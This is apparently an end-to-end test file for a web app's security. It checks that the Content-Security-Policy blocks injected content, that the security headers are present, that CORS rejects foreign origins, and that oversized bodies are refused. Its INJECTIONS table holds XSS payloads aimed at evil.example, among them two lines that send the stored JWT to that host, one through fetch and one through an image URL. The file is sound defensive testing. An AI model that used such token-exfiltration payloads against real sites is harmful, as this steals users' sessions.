"""The whole app under its own Content-Security-Policy: nothing of it is refused, and what somebody slips in is."""

import re

import pytest
from playwright.sync_api import expect

from tests.e2e.conftest import PASSWORD, expect_login_with, expect_stored, log_in, refresh_button, sign_in, stored

pytestmark = pytest.mark.at_root

NOTE_VIOLATIONS = """
window.violations = [];
addEventListener("securitypolicyviolation", ({violatedDirective, blockedURI, sample, sourceFile, lineNumber}) => {
    window.violations.push(violatedDirective);
    console.error(`violation of ${violatedDirective}: ${blockedURI} ${sample} at ${sourceFile}:${lineNumber}`);
});
"""

PUBLIC_PAGES = ["/", "/login", "/register", "/set-password"]
ACCOUNT_PAGES = ["/account", "/account/security", "/account/sessions", "/account/activity", "/customers"]
ADMIN_PAGES = ["/admin", "/admin/users", "/admin/user", "/admin/events"]


@pytest.fixture
def refused(profile) -> list[str]:
    """What the browser has refused so far in any tab of the profile, in its own words and in those of the event."""
    said: list[str] = []
    profile.add_init_script(NOTE_VIOLATIONS)
    profile.on("console", lambda message: said.append(message.text) if "violat" in message.text else None)
    profile.on("weberror", lambda error: said.append(str(error.error)))
    return said


def visit(tab, path):
    tab.goto(path)
    tab.wait_for_function("() => sessionStorage.getItem('token') !== null")
    expect(tab.get_by_role("heading").first).to_be_visible()


class TestNothingOfTheAppIsRefused:
    def test_on_the_public_pages(self, tab, refused):
        for path in PUBLIC_PAGES:
            visit(tab, path)
        tab.goto("/register")
        tab.get_by_label("Password", exact=True).fill("passwordpassword")
        expect(tab.get_by_text("too easy to guess")).to_be_visible()
        tab.get_by_role("button", name="Show").first.click()
        tab.goto("/nothing-here")
        expect(tab.get_by_text("404")).to_be_visible()
        assert refused == []

    def test_from_signing_in_over_a_rotation_to_signing_out(self, tab, refused, server):
        log_in(tab)
        pair = stored(tab)
        server.move_clock(301)
        refresh_button(tab).click()
        expect_stored(tab, changed_from=pair)
        for path in ACCOUNT_PAGES:
            visit(tab, path)
        tab.get_by_role("button", name="Log out").click()
        expect_login_with(tab, "signed_out", "You are logged out.")
        assert refused == []

    def test_in_administration_with_its_download_and_its_dialog(self, tab, refused, administrator, server):
        sign_in(tab, administrator, to="/admin/users")
        for path in ADMIN_PAGES:
            visit(tab, path)
        with tab.expect_download() as download:
            tab.get_by_role("button", name="Export as CSV").click()
        assert download.value.path().read_text().startswith("id,")
        server.move_clock(601)
        tab.goto("/admin/users")
        tab.get_by_text("New user").click()
        tab.get_by_label("Username").fill("somebody")
        tab.get_by_role("button", name="Create user").click()
        expect(tab.get_by_role("dialog", name="Confirm that it is you")).to_be_visible()
        assert refused == []

    def test_while_the_scripts_have_not_arrived(self, tab, refused):
        tab.route(re.compile(r"\.js($|\?)"), lambda route: route.abort())
        tab.goto("/login")
        tab.get_by_label("Username").fill("johndoe")
        tab.get_by_label("Password").fill(PASSWORD)
        expect(tab.get_by_role("button", name="Log in")).to_be_enabled()
        assert [text for text in refused if "violation" in text] == []


INJECTIONS = {
    "a script": ("script-src-elem", "const e = document.createElement('script'); e.textContent = code; document.body.append(e)"),
    "a handler": ("script-src-attr", "document.body.insertAdjacentHTML('beforeend', `<img src=x onerror='${code}'>`)"),
    "a javascript URL": ("script-src-elem", "const e = document.createElement('a'); e.href = `javascript:${code}`; e.click()"),
    "a script in a data URL": (
        "script-src-elem",
        "const e = document.createElement('script'); e.src = `data:text/javascript,${code}`; document.body.append(e)",
    ),
    "a base": ("base-uri", "const e = document.createElement('base'); e.href = 'https://evil.example/'; document.head.append(e)"),
    "a frame": (
        "frame-src",
        "const e = document.createElement('iframe'); e.src = 'https://evil.example/'; document.body.append(e)",
    ),
    "a plug-in": (
        "object-src",
        "const e = document.createElement('object'); e.data = 'https://evil.example/'; document.body.append(e)",
    ),
    "tokens sent away": ("connect-src", "fetch('https://evil.example/?' + localStorage.jwt).catch(() => {})"),
    "tokens as an image": ("img-src", "new Image().src = 'https://evil.example/?' + localStorage.jwt"),
    "a form": (
        "form-action",
        "const e = document.createElement('form'); e.action = 'https://evil.example/'; document.body.append(e); e.submit()",
    ),
}


def test_what_is_injected_is_refused_whatever_it_is(tab, refused):
    log_in(tab)
    for name, (directive, how) in INJECTIONS.items():
        tab.evaluate("violations.length = 0")
        tab.evaluate(f"code => {{ {how} }}", "window.pwned = 1")
        tab.wait_for_function("() => violations.length > 0")
        assert tab.evaluate("violations") == [directive], name
        assert tab.evaluate("window.pwned") is None, name


def test_no_text_is_made_into_code(tab, refused):
    """Reflex's `rx.call_script` would be refused too: nothing here may use it."""
    tab.goto("/login")
    tab.evaluate("() => { setTimeout('window.pwned = 1') }")
    tab.wait_for_function("() => violations.length > 0")
    assert tab.evaluate("window.pwned") is None


def test_no_page_can_frame_it_not_even_one_of_the_same_origin(tab, server):
    framing = f"<iframe src='{server.url}/login/'></iframe>"
    tab.route("**/frame.html", lambda route: route.fulfill(body=framing, content_type="text/html"))
    with tab.expect_console_message(lambda message: "frame-ancestors" in message.text):
        tab.goto("/frame.html")
    assert tab.frames[1].get_by_label("Password").count() == 0


ALWAYS = (
    "content-security-policy",
    "x-content-type-options",
    "referrer-policy",
    "permissions-policy",
    "cross-origin-opener-policy",
)
PREFLIGHT = {"Origin": "https://evil.example", "Access-Control-Request-Method": "POST"}


class TestEveryAnswer:
    @pytest.mark.parametrize(
        ("method", "path", "headers", "status"),
        [
            ("GET", "/", {}, 200),
            ("HEAD", "/", {}, 200),
            ("GET", "/login", {}, 200),
            ("GET", "/nothing-here", {}, 404),
            ("GET", "/favicon.svg", {}, 200),
            ("GET", "/ping", {}, 200),
            ("GET", "/api/customers", {}, 401),
            ("POST", "/api/auth/login", {}, 400),
            ("DELETE", "/api/auth/login", {}, 405),
            ("OPTIONS", "/api/auth/login", PREFLIGHT, 400),
            ("GET", "/_event/?EIO=4&transport=polling", {}, 400),
        ],
    )
    def test_it_has_the_headers(self, api, method, path, headers, status):
        answer = api.request(method, path, headers=headers)
        assert answer.status_code == status
        assert {name: len(answer.headers.get_list(name)) for name in ALWAYS} == dict.fromkeys(ALWAYS, 1)
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "'unsafe-eval'" not in answer.headers["content-security-policy"]
        assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]

    def test_a_304_has_the_policy_of_the_page_that_it_confirms(self, api):
        page = api.get("/")
        confirmed = api.get("/", headers={"If-None-Match": page.headers["etag"]})
        assert confirmed.status_code == 304
        assert confirmed.headers["content-security-policy"] == page.headers["content-security-policy"]
        assert confirmed.headers["x-content-type-options"] == "nosniff"

    def test_scripts_are_allowed_by_hash_and_in_no_other_way(self, api):
        policy = api.get("/").headers["content-security-policy"]
        scripts = next(directive for directive in policy.split("; ") if directive.startswith("script-src "))
        assert all(source == "'self'" or source.startswith("'sha256-") for source in scripts.split()[1:])
        assert len(policy) < 3_000, "proxies allow 4 to 8 KB for all headers"


ORIGINS = [
    "https://evil.example",
    "null",
    "https://{own}.evil.example",
    "https://evil{own}",
    "https://{own}@evil.example",
    "{scheme}://{own}0",
    "{other_scheme}://{own}",
    "{scheme}://{own}, https://evil.example",
    "*",
    "file://",
]


@pytest.mark.parametrize("origin", ORIGINS)
def test_cors_allows_no_foreign_origin_whatever_it_looks_like(api, server, origin):
    scheme, _, own = server.url.partition("://")
    other_scheme = "https" if scheme == "http" else "http"
    headers = {"Origin": origin.format(own=own, scheme=scheme, other_scheme=other_scheme)}
    asked = headers | {"Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "authorization"}
    for answer in (
        api.options("/api/auth/login", headers=asked),
        api.get("/api/me", headers=headers),
        api.get("/", headers=headers),
    ):
        assert "access-control-allow-origin" not in answer.headers
        assert "access-control-allow-credentials" not in answer.headers


class TestSizes:
    TOO_LARGE = b"x" * 2_000_000

    def test_a_body_over_the_limit_is_refused_wherever_it_is_sent(self, api):
        for path in ("/api/auth/login", "/api/customers", "/_event/", "/_upload", "/nothing-here"):
            assert api.post(path, content=self.TOO_LARGE).status_code == 413, path

    def test_so_is_one_that_does_not_say_how_long_it_is(self, api, server):
        chunks = (self.TOO_LARGE[start : start + 65_536] for start in range(0, len(self.TOO_LARGE), 65_536))
        answer = api.post("/api/auth/login", content=chunks)
        assert answer.status_code == 413
        assert server.is_behind_proxy or answer.json()["code"] == "request_entity_too_large"

    def test_a_web_socket_message_over_the_limit_closes_the_connection_and_harms_nobody(self, tab, api):
        log_in(tab)
        closed = tab.evaluate("""() => new Promise((resolve) => {
            const query = "token=11111111-2222-4333-8444-777777777777&EIO=4&transport=websocket";
            const url = `${location.origin.replace("http", "ws")}/_event/?${query}`;
            const socket = new WebSocket(url);
            socket.onclose = () => resolve("closed");
            socket.onmessage = ({data}) => {
                if (data.startsWith("0")) socket.send("40/_event,{}");
                if (data.startsWith("40/_event")) {
                    socket.send('42/_event,["event",{"name":"' + "x".repeat(2_000_000) + '"}]');
                }
            };
        })""")
        assert closed == "closed"
        refresh_button(tab).click()
        expect(tab.get_by_text("refreshed once")).to_be_visible()
        assert api.get("/ping").status_code == 200
